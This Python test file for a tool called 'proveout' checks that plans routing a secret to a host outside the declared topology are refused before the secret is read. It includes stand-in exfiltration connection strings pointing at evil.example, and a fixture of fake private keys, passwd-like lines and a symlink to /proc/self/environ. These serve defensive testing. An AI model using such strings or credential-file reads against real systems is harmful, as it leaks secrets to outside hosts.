"""Destinations of secrets: a plan that sends a secret to another host is refused before the secret is read.

Each attack goes through the compiler and through the function that inserts secrets; one also through the command `run`.
In `test_canary` an exporter that a secret names receives it.
"""

from __future__ import annotations

import base64
import dataclasses
import os
import random
import re
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from secret_attacks import ATTACKS, CANARY, ELSEWHERE
from whole_run import proveout

from proveout.coordinator.agents.endpoints import SecretMissing, SecretRefused, external_endpoints, read_secret
from proveout.core.errors import PlanError
from proveout.dsl.compile.compiler import compile_plan
from proveout.dsl.plan.plan import Plan
from proveout.dsl.plan.topology import Host, Secret, System
from proveout.dsl.rules import secrets
from proveout.dsl.rules.secrets import Place, Unclear, refused_content


def pem(kind: str = "pem") -> bytes:
    """A private key."""
    if kind == "openssh":
        return ed25519.Ed25519PrivateKey.generate().private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
        )
    encoding = serialization.Encoding.DER if kind == "der" else serialization.Encoding.PEM
    return ec.generate_private_key(ec.SECP256R1()).private_bytes(
        encoding, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Secrets and keys of a coordinator's user, each of mode 0600."""
    made = tmp_path_factory.mktemp("secrets")
    key = pem()
    contents = {
        "key": key,
        ".ssh/id": key,
        "pki/ca.key": key,
        "id_ed25519": b"password",
        "encoded": base64.b64encode(pem("der")),
        "der": pem("der"),
        "openssh": pem("openssh"),
        "age": b"AGE-SECRET-KEY-1QQQQQQQQQQQQ\n",
        "putty": b"PuTTY-User-Key-File-3: ssh-ed25519\n",
        "account.json": b'{"private_key": "x"}',
        "lines": b"root:x:0\nbin:x:1\n",
        "long": b"a" * 5000,
    }
    for name, content in contents.items():
        file = made / name
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(content)
        file.chmod(0o600)
    (made / "link").symlink_to("key")
    (made / "ssh-link").symlink_to(".ssh")
    (made / "environ-link").symlink_to("/proc/self/environ")
    (made / "hard").hardlink_to(made / "key")
    os.mkfifo(made / "fifo", 0o600)
    return made


def place(files: Mapping[str, str], at: Path, folder: Path) -> Path | None:
    """Write the files of an attack; return its inventory, if it has one."""
    for name, text in files.items():
        (at / name).write_text(re.sub(r"\bK\b", "${secrets.k}", text).replace("FOLDER", str(folder)))
    return at / "inventory.yaml" if "inventory.yaml" in files else None


def wrong(name: str, at: Path, folder: Path) -> str:
    """Try an attack in an empty folder; return what is wrong with its refusal, "" for nothing."""
    files, wanted = ATTACKS[name]
    at.mkdir()
    inventory = place(files, at, folder)
    overrides = {"at": ELSEWHERE} if "params.at" in "".join(files.values()) else {}
    try:
        plan = compile_plan(at / "plan.yaml", overrides=overrides, inventory=inventory)
        external_endpoints(plan, {"LEAK_WORD": CANARY, "LEAK_KEY": pem().decode()})
    except PlanError as error:
        said = "\n".join(f"{problem.where}: {problem.message}" for problem in error.problems)
        if not re.search(r"\.yaml:\d+:\d+: ", said):
            return f"without a place: {said}"
    except (SecretRefused, SecretMissing) as error:
        said = str(error)
    else:
        return "it was not refused"
    return "" if re.search(wanted, said) and CANARY not in said else f"not as {wanted!r}: {said}"


@pytest.mark.escape
def test_a_plan_that_sends_a_secret_elsewhere_is_refused(
    tmp_path: Path, folder: Path, record_property: Callable[[str, object], None]
) -> None:
    record_property("escapes", len(ATTACKS))
    found = {name: wrong(name, tmp_path / str(number), folder) for number, name in enumerate(ATTACKS)}
    assert {name: text for name, text in found.items() if text} == {}
    assert len(found) >= 60


def test_a_run_is_refused_before_it_begins(tmp_path: Path, folder: Path) -> None:
    place(ATTACKS["a private key: by its content"][0], tmp_path, folder)
    done = proveout(tmp_path, "run", "plan.yaml", "--headless", "--runs-dir", "runs").ended(2)
    assert "private key" in done.err
    assert not (tmp_path / "runs").exists()


# ---- what honest plans do --------------------------------------------------------------------------------------------

HOSTS = (
    Host(name="here", roles=(), address="local"),
    Host(name="db1", roles=(), address="db1.lab.example:7443"),
    Host(name="db2", roles=(), address="10.0.0.7:7443"),
    Host(name="db3", roles=(), address="[fd00::7]:7443"),
)


HONEST = (
    ("postgres", "host=db1.lab.example user=u password=${secrets.k}"),
    ("postgres", "host=DB1.lab.example. password='${secrets.k}' sslmode=verify-full"),
    ("postgres", "host=db1 password=${secrets.k}"),
    ("postgres", "host=db1,10.0.0.7 port=5432,5433 password=${secrets.k}"),
    ("postgres", "host=/run/postgresql password=${secrets.k}"),
    ("postgres", "host=localhost user=${secrets.k}"),
    ("postgres", "postgresql://u:${secrets.k}@db1.lab.example:5432/x?sslmode=require"),
    ("postgres", "postgresql://u:${secrets.k}@[fd00::7]:5432/x"),
    ("postgres", "postgresql://u:${secrets.k}@/x?host=%2Frun%2Fpostgresql"),
    ("postgres", "postgresql://db1/x?user=u&password=${secrets.k}"),
    ("mysql", "mysql://u:${secrets.k}@db1:3306/x?ssl_mode=required"),
    ("mysql", "mariadb://u:${secrets.k}@localhost/x?unix_socket=/run/mysqld/mysqld.sock"),
    ("oracle", "hlr/${secrets.k}@//db1.lab.example:1521/HLR"),
    ("oracle", "hlr/${secrets.k}@tcps://db1:2484/HLR?retry_count=3"),
    ("oracle", "sys as sysasm/${secrets.k}@//db1:1521/+ASM"),
    ("oracle", "u/${secrets.k}@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=X)))"),
    ("timesten", "u/${secrets.k}@db1/hlrcache:timesten_direct"),
    ("other", "scheme://u:${secrets.k}@db1/x"),
    ("other", "host=db1 password=${secrets.k}"),
)  # fmt: skip


def test_hosts_of_the_topology_do_not_need_to() -> None:
    for engine, dsn in HONEST:
        plan = plan_of(engine, dsn, Secret(name="k", kind="env", reference="W"))
        assert CANARY in external_endpoints(plan, {"W": CANARY})["db"].dsn, dsn


def plan_of(engine: str, dsn: str, secret: Secret) -> Plan:
    system = System(name="db", engine=engine, host="db1", dsn=dsn)
    return Plan(
        name="p", title="", parameters=(), hosts=HOSTS, systems=(system,), secrets=(secret,), workloads=(), captures=(),
        stages=(), verdicts=(),
    )  # fmt: skip


def test_the_coordinator_checks_the_compiled_plan_itself_before_it_reads_a_secret(tmp_path: Path) -> None:
    """The file does not exist, so that reading it would raise another error."""
    secret = Secret(name="k", kind="file", reference=str(tmp_path / "none"))
    plan = plan_of("postgres", "host=evil.example password=${secrets.k}", secret)
    with pytest.raises(SecretRefused, match=r"evil\.example is not one of them") as caught:
        external_endpoints(plan, {})
    assert "to: [evil.example]" in caught.value.way_out
    named = Secret(name="k", kind="env", reference="W", to=("evil.example",))
    assert CANARY in external_endpoints(dataclasses.replace(plan, secrets=(named,)), {"W": CANARY})["db"].dsn


def test_an_inventory_may_name_further_hosts(tmp_path: Path) -> None:
    files, _ = ATTACKS["an exporter that the plan names, with an inventory"]
    inventory = place(files, tmp_path, tmp_path)
    assert inventory is not None
    inventory.write_text(inventory.read_text().replace("LEAK_WORD", "LEAK_WORD, to: [db1.lab.example, evil.example]"))
    plan = compile_plan(tmp_path / "plan.yaml", inventory=inventory)
    assert "evil.example" in external_endpoints(plan, {"LEAK_WORD": CANARY})["capture:c"].dsn


PLACES = {
    "DB1.Lab": Place("db1.lab"),
    "db1:5432": Place("db1", 5432),
    "127.0.0.1:9100": Place("localhost", 9100),
    "[::1]": Place("localhost"),
    "::1": Place("localhost"),
    "::ffff:127.0.0.1": Place("localhost"),
    "[FD00:0::7]:1": Place("fd00::7", 1),
    "/run/x": Place("localhost"),
}


def test_a_place_is_normalised() -> None:
    assert {text: secrets.place(text) for text in PLACES} == PLACES


@pytest.mark.parametrize("text", ["", "*", "*.lab", "a b", "a/b", "http://x", "x:y", "x:123456", "-x", "x\n"])
def test_invalid_places_are_refused(text: str) -> None:
    with pytest.raises(Unclear):
        secrets.place(text)


RANDOM = base64.b64encode(random.Random(96).randbytes(96)).decode()


@pytest.mark.parametrize("word", ["hunter2", "a" * 200, "MIIhunter2", RANDOM, "ü:@/?#", '{"a": 1}'])
def test_passwords_are_not_taken_for_keys(word: str, tmp_path: Path) -> None:
    assert refused_content(word.encode()) == ""
    file = tmp_path / "word"
    file.write_text(f"{word}\n")
    file.chmod(0o600)
    assert read_secret(Secret(name="k", kind="file", reference=str(file)), {}) == word
